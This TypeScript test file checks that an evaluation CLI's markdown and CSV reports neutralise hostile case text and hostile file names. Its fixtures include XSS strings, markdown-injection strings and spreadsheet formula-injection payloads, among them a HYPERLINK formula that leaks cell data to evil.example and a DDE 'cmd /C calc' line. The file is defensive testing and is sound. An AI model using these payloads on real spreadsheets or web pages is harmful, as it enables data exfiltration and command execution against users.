/**
 * Safe reports with hostile input, through real runs of every built-in pipeline kind (the CLI
 * in-process, `runCli`; heuristic judge) and `compare`:
 * - report.md, parsed with markdown-it (CommonMark + tables, raw HTML recognised), holds no heading,
 *   HTML element, comment, link, image or code block that came from case text, no line break a
 *   renderer could honour inside quoted text (CR, U+2028, U+2029), and every `|` of case text
 *   stays inside its table cell;
 * - report.csv, parsed as CSV, has every cell that starts with `=`, `+`, `-`, `@`, tab or CR
 *   neutralised with a leading `'` (numbers the tool writes excepted), unless `--csv-raw` is given.
 */
import { parse as parseCsv } from "csv-parse/sync"
import MarkdownIt from "markdown-it"
import * as fs from "node:fs"
import * as Path from "node:path"
import { beforeAll, describe, expect, it } from "vitest"
import { runCli } from "../support/InProcessCli.js"
import { printedRunDir, tempDir } from "../support/RunPipeline.js"

/** Markdown and HTML that must stay text, and line breaks that must not break out of a block. */
const hostileText = [
  "<script>alert('xss')</script>",
  "<!-- hidden -->",
  "<img src=x onerror=\"alert(1)\">",
  "first line\r# Injected heading CR",
  "before\u2028# Injected heading LS",
  "before\u2029## Injected heading PS",
  "text\r\n### Injected heading CRLF",
  "\nInjected setext heading\r===",
  "PIPE a | b | c",
  "tick ` and ``` fence ``` and \\| escaped",
  "</details><details open><summary>Injected summary</summary>",
  "[click](http://evil.example/a) ![img](http://evil.example/x.png) <http://evil.example/b>",
  "[ref]: http://evil.example/ref",
  "bare https://evil.example/bare and www.evil.example and mail attacker@evil.example",
  "\n    indented code\n> quote\n- list"
].join(" ~ ")

/** Cells that a spreadsheet would run as formulas: each starts one field. */
const formulas = [
  "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")",
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1"
]

/** What a spreadsheet treats as a formula (OWASP: cells starting with = + - @ tab CR). */
const FORMULA_START = /^[=+\-@\t\r]/
/** A number the tool itself wrote: left as it is. */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i

/** HTML the reports write themselves. */
const allowedHtml = new Set(["<sub>", "</sub>", "<code>", "</code>"])

interface MdToken {
  readonly type: string
  readonly tag: string
  readonly content: string
  readonly children: ReadonlyArray<MdToken> | null
}

/** Everything in report.md that case text must never produce. */
const markdownProblems = (text: string): Array<string> => {
  const problems: Array<string> = []
  for (const ch of ["\r", "\u2028", "\u2029", "\u0085"]) {
    if (text.includes(ch)) problems.push(`raw line break U+${ch.charCodeAt(0).toString(16).padStart(4, "0")}`)
  }
  // linkify: bare URLs, www. addresses and e-mails in case text must not become links either.
  const md = new MarkdownIt({ html: true, linkify: true })
  const tokens = md.parse(text, {}) as ReadonlyArray<MdToken>
  const flat = tokens.flatMap((t) => [t, ...(t.children ?? [])])
  tokens.forEach((t, i) => {
    if (t.type === "heading_open") {
      // The tool's own headings may quote case text inline ("### 2. <question> — composite …"); a
      // heading made by case text starts with it.
      const content = (tokens[i + 1]?.content ?? "").trim()
      if (/^Injected/.test(content)) problems.push(`heading from case text: ${t.tag} "${content}"`)
    }
  })
  for (const t of flat) {
    if ((t.type === "html_block" || t.type === "html_inline") && !allowedHtml.has(t.content.trim())) {
      problems.push(`HTML: ${JSON.stringify(t.content.slice(0, 80))}`)
    }
    if (t.type === "image") problems.push(`${t.type}: ${JSON.stringify(t.content)}`)
    // The tool links nothing itself; a link whose target came from case text is a problem.
    const href = (t as { attrGet?: (name: string) => string | null }).attrGet?.("href") ?? ""
    if (t.type === "link_open" && /evil/.test(href)) problems.push(`link to ${href}`)
    if (t.type === "fence" || t.type === "code_block") {
      problems.push(`${t.type}: ${JSON.stringify(t.content.slice(0, 80))}`)
    }
  }
  // Case text is shown: its dangerous parts as visible text.
  const html = md.render(text)
  if (!html.includes("&lt;script&gt;alert('xss')&lt;/script&gt;")) {
    problems.push("the <script> text is not shown as text")
  }
  if (!/<td>[^<]*PIPE a \| b \| c/.test(html)) problems.push("a | inside case text left its table cell")
  return problems
}

const csvProblems = (text: string): Array<string> => {
  const rows = parseCsv(text, { relax_column_count: false, bom: true }) as Array<Array<string>>
  const problems: Array<string> = []
  rows.forEach((row, r) =>
    row.forEach((cell, c) => {
      if (FORMULA_START.test(cell) && !NUMBER.test(cell)) {
        problems.push(`row ${r + 1} column ${c + 1}: ${JSON.stringify(cell.slice(0, 40))}`)
      }
    })
  )
  return problems
}

const cells = (text: string): Array<string> => (parseCsv(text, { bom: true }) as Array<Array<string>>).flat()

const csvLine = (fields: ReadonlyArray<string>) => fields.map((f) => `"${f.replace(/"/g, "\"\"")}"`).join(",") + "\r\n"

describe("hostile case text cannot escape its place in the reports", () => {
  let dir: string
  /** An output root whose own name is hostile: it shows in reports and compare. */
  let out: string
  beforeAll(() => {
    dir = tempDir()
    out = Path.join(dir, "out `x` | <b onmouseover=alert(1)>bold")
    fs.mkdirSync(out)
  })

  /** An input file whose name is hostile too (it is shown in every report's parameters table). */
  let inputs = 0
  const inputPath = (ext: string) => Path.join(dir, `PIPE a | b | c <img src=x onerror=alert(1)> ${++inputs}.${ext}`)

  /** `idCell`: a case id holding `|` that must show whole in one table cell. */
  const check = async (runDir: string, idCell?: string) => {
    const md = fs.readFileSync(Path.join(runDir, "report.md"), "utf8")
    expect(markdownProblems(md)).toEqual([])
    if (idCell !== undefined) {
      expect(new MarkdownIt().render(md)).toContain(
        `<td>${idCell.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;")}</td>`
      )
    }
    const csv = fs.readFileSync(Path.join(runDir, "report.csv"), "utf8")
    expect(csvProblems(csv)).toEqual([])
    return { md, csv }
  }

  it("rag-answers (rubric report)", async () => {
    const input = inputPath("csv")
    fs.writeFileSync(
      input,
      csvLine(["ID", "Current User Question", "Conversation History", "Fragment Texts", "Assistant Answer"]) +
        formulas.map((f, i) =>
          csvLine([
            i === 0 ? "=id|`x`" : `id-${i}`,
            `${f} what is the capital of france ${hostileText}`,
            `${f} ${hostileText}`,
            `1. Paris is the capital ${hostileText}\\n2. ${f}`,
            `${f} Paris ${hostileText}`
          ])
        ).join("")
    )
    const r = await runCli(["run", "rag-answers", "--csv", input, "--out", out, "--columns", "id=ID"])
    expect(r.stderr).not.toContain("internal error")
    expect(r.code).toBe(0)
    const { csv } = await check(printedRunDir(r.stdout))
    // Each formula cell is there, neutralised with a leading quote.
    const all = cells(csv)
    for (const f of formulas) expect(all.some((c) => c.startsWith(`'${f}`))).toBe(true)
    expect(all).toContain("'=id|`x`")
    // --csv-raw on report opts out: the cells are written as they came.
    const raw = await runCli(["report", printedRunDir(r.stdout), "--format", "csv", "--csv-raw"])
    expect(raw.code).toBe(0)
    const rawCells = cells(fs.readFileSync(Path.join(printedRunDir(r.stdout), "report.csv"), "utf8"))
    expect(rawCells).toContain("=id|`x`")
    expect(rawCells.some((c) => c.startsWith(formulas[0]!))).toBe(true)
  }, 120_000)

  it("answer-synthesis (synthesis report, low-score examples)", async () => {
    const input = inputPath("json")
    fs.writeFileSync(
      input,
      JSON.stringify({
        version: "1",
        name: "hostile",
        cases: formulas.map((f, i) => ({
          queryLogId: i === 1 ? "+ql|`1`" : `ql-${i}`,
          question: `${f} which courses ${hostileText}`,
          answer: `${f} Take STAT101 ${hostileText}`,
          context: [{ name: `Stats ${hostileText}`, code: `${f}`, learningOutcomes: [hostileText] }]
        }))
      })
    )
    const r = await runCli(["run", "answer-synthesis", "--input", input, "--out", out])
    expect(r.stderr).not.toContain("internal error")
    expect(r.code).toBe(0)
    const { csv } = await check(printedRunDir(r.stdout))
    expect(cells(csv)).toContain("'+ql|`1`")
  }, 120_000)

  it("course-retrieval (course report)", async () => {
    const input = inputPath("json")
    fs.writeFileSync(
      input,
      JSON.stringify({
        version: 1,
        name: "hostile",
        cases: formulas.map((f, i) => ({
          id: i === 2 ? "-case|`2`" : `c-${i}`,
          question: `${f} learn statistics ${hostileText}`,
          skill: `${f} statistics ${hostileText}`,
          retrievedCourses: [
            {
              subjectCode: `${f}`,
              subjectName: `Statistics ${hostileText}`,
              cleanedLearningOutcomes: [`statistics ${hostileText}`]
            },
            { subjectCode: "CS1", subjectName: "Cooking", cleanedLearningOutcomes: ["bake bread"] }
          ]
        }))
      })
    )
    const r = await runCli(["run", "course-retrieval", "--input", input, "--out", out])
    expect(r.stderr).not.toContain("internal error")
    expect(r.code).toBe(0)
    const { csv } = await check(printedRunDir(r.stdout), "-case|`2`")
    expect(cells(csv)).toContain("'-case|`2`")
  }, 120_000)

  it("search-relevance (search report)", async () => {
    const input = inputPath("jsonl")
    fs.writeFileSync(
      input,
      formulas.map((f, i) =>
        JSON.stringify({
          id: i === 3 ? "@q|`3`" : `q-${i}`,
          query: { inputs: { text: `${f} capital of france ${hostileText}` } },
          hits: [{ id: `${f}|hit`, text: `Paris is the capital of France ${hostileText}` }, {
            id: "h2",
            text: `Bananas ${hostileText}`
          }]
        })
      ).join("\n") + "\n"
    )
    const r = await runCli(["run", "search-relevance", "--input", input, "--out", out])
    expect(r.stderr).not.toContain("internal error")
    expect(r.code).toBe(0)
    const { csv } = await check(printedRunDir(r.stdout), "@q|`3`")
    expect(cells(csv)).toContain("'@q|`3`")
    // --csv-raw on run opts out too (the run resumes and writes its reports again).
    const raw = await runCli(["run", "search-relevance", "--input", input, "--out", out, "--csv-raw"])
    expect(raw.code).toBe(0)
    expect(cells(fs.readFileSync(Path.join(printedRunDir(raw.stdout), "report.csv"), "utf8"))).toContain("@q|`3`")
  }, 120_000)

  it("evidence-retrieval (evidence report) and compare's markdown", async () => {
    const input = inputPath("jsonl")
    fs.writeFileSync(
      input,
      formulas.map((f, i) =>
        JSON.stringify({
          id: i === 4 ? "\t=q|`4`" : `e-${i}`,
          query: `${f} annual leave ${hostileText}`,
          gold: [`25 days of paid annual leave ${hostileText}`],
          chunks: [
            { id: `${f}|chunk`, text: `Employees accrue 25 days of paid annual leave ${hostileText}`, score: 0.9 },
            { id: "c2", text: `Office closed ${hostileText}`, score: 0.5 }
          ]
        })
      ).join("\n") + "\n"
    )
    const a = await runCli(["run", "evidence-retrieval", "--input", input, "--out", out])
    expect(a.stderr).not.toContain("internal error")
    expect(a.code).toBe(0)
    // Ids are trimmed by the loader: the tab is gone, the = is not.
    const { csv } = await check(printedRunDir(a.stdout), "=q|`4`")
    expect(cells(csv)).toContain("'=q|`4`")
    const b = await runCli(["run", "evidence-retrieval", "--input", input, "--out", out, "--top-k", "1"])
    expect(b.code).toBe(0)
    const report = Path.join(dir, "compare.md")
    const c = await runCli(["compare", printedRunDir(a.stdout), printedRunDir(b.stdout), "--output", report])
    expect(c.stderr).not.toContain("internal error")
    expect(c.code).toBe(0)
    const text = fs.readFileSync(report, "utf8")
    const md = new MarkdownIt({ html: true })
    const html = md.render(text)
    expect(html).not.toContain("<b onmouseover")
    // The run directories (with ` and | in their names) are shown whole, inside one code span each.
    expect(html).toContain("out `x` | &lt;b onmouseover=alert(1)&gt;bold")
  }, 120_000)
})
